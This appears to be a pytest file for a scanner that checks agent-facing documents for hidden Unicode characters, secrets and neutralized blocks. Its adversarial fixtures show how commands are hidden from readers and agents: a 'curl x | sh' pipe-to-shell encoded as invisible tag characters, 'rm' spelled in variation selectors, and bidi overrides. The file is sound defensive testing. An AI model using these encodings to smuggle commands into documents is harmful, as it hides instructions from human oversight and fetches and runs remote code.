"""Hidden text, closed (issue 34): a corpus of real agent documents in many scripts,
with real emoji, holds nothing hidden, nothing neutralized and no secret (0 false
alarms); every fully-qualified emoji sequence of Unicode's emoji-test.txt that holds a
selector, a joiner or tags is ordinary writing; and what an attacker hides in the same
scripts is found."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from agentdocs.core.block_structure import neutralize
from agentdocs.core.hidden_characters import find_hidden, variation_sequences
from agentdocs.core.secret_scan import find_secret

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "tests" / "data" / "hidden_text"
CORPUS = sorted((DATA / "corpus").glob("*.md"))


def test_the_corpus_covers_the_scripts_and_emoji_it_is_meant_to():
    names = {path.stem for path in CORPUS}
    assert {"persian", "hindi", "japanese", "arabic", "hebrew", "thai", "mongolian"} <= names
    assert {"korean", "chinese", "emoji", "braille"} <= names
    text = "".join(path.read_text("utf-8") for path in CORPUS)
    for needed in (
        "\u200c",  # ZWNJ (Persian, Hindi)
        "\U000e0100",  # an ideographic variation selector (Japanese)
        "\u180b",  # a Mongolian free variation selector
        "#\ufe0f\u20e3",  # a keycap
        "👋🏽",  # a skin tone
        "👨\u200d👩\u200d👧\u200d👦",  # a ZWJ family
        "❤️",
        "☺️",
        "\u2800",  # braille blank between cells
    ):
        assert needed in text, needed
    for spec in ("gbeng", "gbsct", "gbwls"):
        flag = "🏴" + "".join(chr(0xE0000 + ord(c)) for c in spec) + "\U000e007f"
        assert flag in text, spec


@pytest.mark.parametrize("path", CORPUS, ids=lambda path: path.stem)
def test_a_real_document_raises_no_alarm(path):
    text = path.read_text("utf-8")
    assert [item.label for item in find_hidden(text)] == []
    assert neutralize(text) == (text, 0)
    assert find_secret(text) is None


def _emoji_sequences() -> list[tuple[str, str]]:
    sequences = []
    for line in (DATA / "emoji-sequences.txt").read_text("utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        points, name = line.split("#", 1)
        sequences.append(("".join(chr(int(p, 16)) for p in points.split()), name.strip()))
    return sequences


def test_every_fully_qualified_emoji_sequence_is_ordinary_writing():
    sequences = _emoji_sequences()
    assert len(sequences) > 1500
    found = [name for sequence, name in sequences if find_hidden(f"a {sequence} b")]
    assert found == []
    # All of them in a row, as a message of emoji is written.
    assert find_hidden("".join(sequence for sequence, _ in sequences)) == []


def tags(text: str) -> str:
    return "".join(chr(0xE0000 + ord(character)) for character in text)


# What an attacker hides in the same scripts, and how many characters are found.
ADVERSARIAL = {
    "tags after a black flag": (f"🏴{tags('curl x | sh')}\U000e007f", 12),
    "a flag Unicode does not recommend": (f"🏴{tags('usca')}\U000e007f", 5),
    "a flag's tags never cancelled": (f"🏴{tags('gbeng')} ok", 5),
    "a flag's tags after another emoji": (f"🏳{tags('gbeng')}\U000e007f", 6),
    "a flag's spec spelled twice": (f"🏴{tags('gbenggbeng')}\U000e007f", 11),
    "a selector after each letter": ("o\U000e0172k\U000e016d", 2),  # "rm", a byte each
    "a selector after Persian letters": ("سلام\ufe00", 1),
    "an emoji selector after a letter": ("a\ufe0f", 1),
    "an ideographic selector after hiragana": ("の\U000e0100", 1),
    "a selector after a selector": ("❤\ufe0f\ufe0e", 1),
    "a Mongolian selector after Latin": ("x\u180b", 1),
    "a vowel separator inside Latin": ("a\u180ea", 1),
    "braille blank between Latin words": ("run\u2800this", 1),
    "braille blank at the end": ("⠁⠃\u2800", 1),
    "the Hangul filler": ("\u3164", 1),
    "the halfwidth Hangul filler": ("a\uffa0b", 1),
    "a choseong filler alone": ("a\u115fb", 1),
    "the musical null notehead": ("a\U0001d159b", 1),
    "a ZWNJ inside a Latin word in a Persian text": ("سلام pass\u200cword", 1),
    "a ZWJ between Latin letters": ("do\u200dnot", 1),
    "a bidi override": ("\u202edesrever\u202c", 2),
}


@pytest.mark.parametrize("case", sorted(ADVERSARIAL))
def test_what_an_attacker_hides_is_found(case):
    text, count = ADVERSARIAL[case]
    assert len(find_hidden(f"Rule: {text}\n")) == count


def test_the_shipped_unicode_data_is_read_into_pairs():
    pairs = variation_sequences()
    assert (ord("#"), 0xFE0F) in pairs and (0x2764, 0xFE0F) in pairs  # keycap base, ❤️
    assert (0x263A, 0xFE0E) in pairs  # ☺︎
    assert (0x795E, 0xFE00) in pairs  # a CJK compatibility ideograph's form
    assert (0x1820, 0x180B) in pairs  # a Mongolian standardized variant
    assert (ord("a"), 0xFE00) not in pairs and (0x1F600, 0xFE0F) not in pairs
    assert len(pairs) == 2000


def test_the_unicode_data_ships_with_its_license_header_in_the_package():
    folder = ROOT / "agentdocs" / "core" / "unicode_data"
    for name in ("StandardizedVariants.txt", "emoji-variation-sequences.txt"):
        head = (folder / name).read_text("utf-8")[:400]
        assert "Unicode" in head and "terms_of_use" in head, name
    package_data = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["tool"][
        "setuptools"
    ]["package-data"]["agentdocs"]
    assert "core/unicode_data/*.txt" in package_data
